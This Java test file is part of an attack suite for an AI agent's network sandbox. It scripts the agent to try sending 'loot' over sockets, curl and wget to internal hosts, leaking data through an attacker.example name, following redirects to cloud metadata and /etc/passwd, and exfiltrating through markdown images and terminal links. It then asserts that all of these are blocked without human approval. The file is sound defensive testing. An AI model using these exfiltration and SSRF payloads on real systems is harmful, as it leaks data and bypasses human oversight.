package dev.anabranch.checks.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.anabranch.checks.attack.Obedient.Orders;
import dev.anabranch.events.PeopleEvent.ApprovalRequested;
import dev.anabranch.events.SessionId;
import dev.anabranch.events.ToolEvent.CallDenied;
import dev.anabranch.json.Json;
import dev.anabranch.launcher.text.AskText;
import dev.anabranch.modelserver.Reply;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Group 3 of the attack suite: whom a call wants to reach. The proof is who was reached. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(300)
final class NetworkAttacksTest {
  private final Listener internal = Listener.open();
  private final Listener granted = Listener.open();
  private final Pages pages = Pages.open();
  private final ForeignSite foreign = ForeignSite.open();
  private final Json.Obj grant =
      Json.object().with("network", Json.strings(List.of(granted.place())));
  private Product product;

  @BeforeAll
  void start(@TempDir Path dir) throws IOException {
    Files.writeString(
        Files.createDirectories(dir.resolve("data")).resolve("anabranch.conf"),
        foreign.configuration());
    product =
        Product.start(
            dir,
            Map.of(
                "ANABRANCH_NETWORK_ALLOW",
                granted.place(),
                "ANABRANCH_FETCH_HOSTS",
                pages.place() + ",localhost:" + internal.port()));
  }

  @BeforeEach
  void nobodyWasReached() {
    internal.forget();
    granted.forget();
    foreign.forget();
  }

  @AfterAll
  void end() {
    product.close();
    foreign.close();
    pages.close();
    granted.close();
    internal.close();
  }

  private static Reply.Call sockets(List<String> addresses, int port) {
    return Calls.python(
        """
        import socket
        for host in %s:
          for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
              s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind)
              s.settimeout(2); s.connect((host, %d)); s.send(b"loot"); print("sent", kind)
            except OSError as e: print("no way", e)
        """
            .formatted(Json.strings(addresses).canonical(), port));
  }

  @Test
  void a_direct_connection_reaches_nobody() {
    List<String> hosts = List.of("127.0.0.1", "localhost", "::1", "0.0.0.0");
    Aftermath after =
        product.obey(
            Orders.inTurn(
                sockets(hosts, internal.port()),
                Calls.shell(
                    "curl -m 2 http://%s/; wget -T 2 http://%1$s/; true"
                        .formatted(internal.place()))));
    Aftermath withGrant = product.obey(Orders.inTurn(sockets(hosts, internal.port())), grant);

    assertThat(internal.heard()).isEmpty();
    assertThat(after.printed()).contains("no way").contains("refused");
    assertThat(withGrant.printed()).contains("no way");
  }

  @Test
  void a_name_carries_nothing_out() {
    String name = "loot-in-a-name.attacker.example";
    Reply.Call ask =
        Calls.python(
            """
            import socket, urllib.request
            try: print(socket.getaddrinfo("%1$s", 80))
            except OSError as e: print("no name", e)
            try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"loot", ("127.0.0.1", %2$d))
            except OSError as e: print("no way", e)
            try: print(urllib.request.urlopen("http://%1$s/", timeout=5).read())
            except Exception as e: print("refused:", e)
            """
                .formatted(name, internal.port()));
    Aftermath plain = product.obey(Orders.inTurn(ask, Calls.fetch("http://" + name + "/")));
    Aftermath withGrant = product.obey(Orders.inTurn(ask), grant);

    assertThat(internal.heard()).isEmpty();
    assertThat(granted.heard()).isEmpty();
    assertThat(plain.printed()).contains("no name").contains(name + ":80 is not allowed");
    assertThat(withGrant.printed()).contains("no name").contains("403").contains("not allowed");
  }

  @Test
  void a_redirect_to_what_is_inside_is_not_followed() {
    Aftermath after =
        product.obey(
            Orders.inTurn(
                Calls.fetch("http://" + pages.place() + "/"),
                Calls.fetch(pages.sendingTo("http://" + internal.place() + "/")),
                Calls.fetch(pages.sendingTo("http://localhost:" + internal.port() + "/")),
                Calls.fetch(pages.sendingTo("http://127.0.0.1:" + product.port() + "/health/live")),
                Calls.fetch(pages.sendingTo("file:///etc/passwd")),
                Calls.fetch(pages.sendingTo("http://2130706433:" + internal.port() + "/"))));

    assertThat(internal.heard()).isEmpty();
    assertThat(after.printed())
        .contains("a page")
        .contains(internal.place() + " is not allowed")
        .contains("localhost is 127.0.0.1, a loopback address, and not reached")
        .doesNotContain("root:");
  }

  /** The name stands for any that leads to an address of this machine or its network. */
  @Test
  void the_metadata_of_a_cloud_is_reached_neither_by_address_nor_by_a_name() {
    Aftermath after =
        product.obey(
            Orders.inTurn(
                Calls.fetch("http://169.254.169.254/latest/meta-data/"),
                Calls.fetch("http://2852039166/latest/meta-data/"),
                Calls.fetch("http://[::ffff:169.254.169.254]/latest/meta-data/"),
                Calls.fetch("http://localhost:" + internal.port() + "/latest/meta-data/"),
                sockets(List.of("169.254.169.254", "fd00:ec2::254"), 80)),
            grant);

    assertThat(internal.heard()).isEmpty();
    assertThat(after.printed())
        .contains("169.254.169.254:80 is not allowed")
        .contains("a loopback address, and not reached")
        .contains("no way")
        .doesNotContain("sent");
  }

  /** Accepted: who grants a host trusts it with whatever the session has. A person lets it go. */
  @Test
  void accepted_a_granted_host_can_be_told_anything_once_a_person_lets_it() {
    Orders upload =
        Orders.inTurn(
            Calls.python(
                """
                import os, urllib.request
                os.environ.pop("no_proxy", 0); os.environ.pop("NO_PROXY", 0)
                urllib.request.urlopen("http://%s/", data=b"loot", timeout=20)
                """
                    .formatted(granted.place())));
    Aftermath without = product.obey(upload);
    assertThat(granted.heard()).isEmpty();
    Aftermath asked = product.obey(upload, grant.with("autonomy", 3));

    assertThat(granted.heard()).isEmpty();
    assertThat(without.all(ApprovalRequested.class)).isEmpty();
    ApprovalRequested request = asked.all(ApprovalRequested.class).getFirst();
    assertThat(asked.status()).isEqualTo("waiting");
    Aftermath run =
        product.granted(asked.id(), "calls/" + request.call() + "/approve", Json.object());
    assertThat(run.status()).as(run.journal()).isEqualTo("completed");
    assertThat(granted.heard()).as(run.printed()).singleElement().asString().startsWith("POST ");
  }

  @Test
  void an_image_in_an_answer_is_loaded_by_nobody() {
    String image = "![loot](http://%s/?loot) <img src=\"http://%1$s/?loot\">";
    Aftermath after =
        product.obey(
            Orders.inTurn(Calls.shell("echo '" + image.formatted(internal.place()) + "'"))
                .saying(image.formatted(internal.place())));
    Http http = product.http();
    String session = "/api/sessions/" + after.id();

    for (String page : List.of("/", "/s/" + after.id(), session, session + "/events")) {
      HttpResponse<String> answer = http.get(page);
      assertThat(answer.headers().firstValue("Content-Security-Policy").orElseThrow())
          .contains("default-src 'none';", "img-src 'self';", "connect-src 'self';");
      assertThat(answer.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
      boolean isData = page.startsWith("/api");
      assertThat(answer.headers().firstValue("Content-Type").orElseThrow())
          .startsWith(isData ? "application/json" : "text/html");
      assertThat(answer.body().contains("?loot")).isEqualTo(isData);
    }
    HttpResponse<String> file = http.get(session + "/export?format=html");
    assertThat(file.body()).doesNotContain("<img src=\"http");
    assertThat(internal.heard()).isEmpty();
  }

  @Test
  void a_link_in_what_is_asked_is_plain_text_and_opened_by_nobody() {
    String link = "\u001b]8;;http://%s/?loot\u001b\\fine\u001b]8;;\u001b\\";
    SessionId session =
        product.submit(
            Orders.inTurn(Calls.shell("echo " + link.formatted(internal.place()) + " > f")),
            Json.object().with("autonomy", 1));
    Aftermath asked = product.rested(session);
    Json.Obj shown = Json.parseObject(product.http().get("/api/sessions/" + session).body());
    List<String> lines = AskText.asks(shown);
    product.http().get("/api/approvals");

    assertThat(asked.all(ApprovalRequested.class)).hasSize(1);
    assertThat(lines).singleElement().asString().contains(internal.place() + "/?loot");
    assertThat(lines.getFirst().chars()).noneMatch(Character::isISOControl);
    assertThat(internal.heard()).isEmpty();
    assertThat(product.workspace(session).resolve("f")).doesNotExist();
  }

  @Test
  void a_foreign_tool_relays_nothing_that_no_person_let_go() {
    Reply.Call send =
        Calls.call(ForeignSite.SEND, Json.object().with("to", "ann").with("text", "loot"));
    Aftermath asked = product.obey(Orders.inTurn(send), Json.object().with("autonomy", 3));
    String call = asked.all(ApprovalRequested.class).getFirst().call();
    Aftermath denied =
        product.granted(
            asked.id(), "calls/" + call + "/deny", Json.object().with("reason", "a leak"));

    assertThat(foreign.sent()).isEmpty();
    assertThat(denied.all(CallDenied.class)).hasSize(1);
    assertThat(denied.printed()).contains("a leak");
  }
}
